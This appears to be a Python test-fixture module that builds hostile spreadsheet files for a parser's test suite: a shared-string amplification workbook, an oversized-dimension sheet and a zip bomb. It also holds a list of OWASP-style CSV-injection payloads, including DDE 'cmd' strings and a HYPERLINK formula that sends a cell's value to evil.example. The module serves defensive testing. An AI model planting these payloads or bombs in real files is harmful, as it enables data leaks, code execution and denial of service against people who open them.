"""Builders of the hostile-input corpus (and of plain ODS files): every file is made by the test
that uses it, small on disk, however much it asks for once expanded."""

from __future__ import annotations

import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

from shipsync_bench.xlsx_file import MAIN, write_raw_xlsx

TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
)


def write_raw_ods(path: Path, tables: str) -> Path:
    """An ODS whose spreadsheet body is `tables` (table:table elements), nothing checked."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{OFFICE}" xmlns:table="{TABLE}" '
        f'xmlns:text="{TEXT}" office:version="1.2"><office:body><office:spreadsheet>{tables}</office:spreadsheet></office:body>'
        "</office:document-content>"
    )
    with zipfile.ZipFile(path, "w") as out:
        out.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        out.writestr("META-INF/manifest.xml", _MANIFEST, compress_type=zipfile.ZIP_DEFLATED)
        out.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return path


def ods_cell(value: object, attributes: str = "") -> str:
    if isinstance(value, int | float) and not isinstance(value, bool):
        return f'<table:table-cell office:value-type="float" office:value="{value}"{attributes}><text:p>{value}</text:p></table:table-cell>'
    return f'<table:table-cell office:value-type="string"{attributes}><text:p>{escape(str(value))}</text:p></table:table-cell>'


def write_ods(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    """An ODS with a sheet per entry; str cells are text, numbers are numbers."""
    tables = "".join(
        f'<table:table table:name="{escape(name)}">'
        + "".join("<table:table-row>" + "".join(ods_cell(v) for v in row) + "</table:table-row>" for row in rows)
        + "</table:table>"
        for name, rows in sheets.items()
    )
    return write_raw_ods(path, tables)


def amplified_xlsx(path: Path, *, string_bytes: int = 1_000_000, references: int = 400) -> Path:
    """Issue 19's file: one long shared string referenced from `references` cells (~4 KB on disk)."""
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>{0 if i > 1 else 1}</v></c></row>' for i in range(1, references + 2))
    sheet = f'<worksheet xmlns="{MAIN}"><dimension ref="A1:A{references + 1}"/><sheetData>{rows}</sheetData></worksheet>'
    shared = f'<sst xmlns="{MAIN}"><si><t>{"a" * string_bytes}</t></si><si><t>note</t></si></sst>'
    return write_raw_xlsx(path, sheet, shared)


def cornered_xlsx(path: Path, *, dimension: str | None = None) -> Path:
    """Two cells at opposite corners of a sheet: the reader would allocate 17 billion cells."""
    declared = f'<dimension ref="{dimension}"/>' if dimension else ""
    cells = '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="1048576"><c r="XFD1048576" t="s"><v>0</v></c></row>'
    return write_raw_xlsx(
        path,
        f'<worksheet xmlns="{MAIN}">{declared}<sheetData>{cells}</sheetData></worksheet>',
        f'<sst xmlns="{MAIN}"><si><t>x</t></si></sst>',
    )


def zip_bomb_xlsx(path: Path, inflated: int) -> Path:
    """A workbook with an extra member of `inflated` zero bytes (compressed a thousandfold)."""
    write_raw_xlsx(path, f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="b"><v>1</v></c></row></sheetData></worksheet>')
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as out, out.open("xl/media/padding.bin", "w", force_zip64=True) as member:
        block = bytes(1024 * 1024)
        for _ in range(inflated // len(block)):
            member.write(block)
    return path


# OWASP's CSV-injection payloads, and issue 19's, leading and after separators.
FORMULA_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "x;=cmd|'/c calc'!A0;y",
    "x,=cmd|'/c calc'!A0,y",
    "x\t=cmd|'/c calc'!A0",
    "x; @SUM(1+1)",
    "line one\n=1+1",
    "\uff1dcmd|' /C calc'!A0",
    "ok;  -1+1",
]
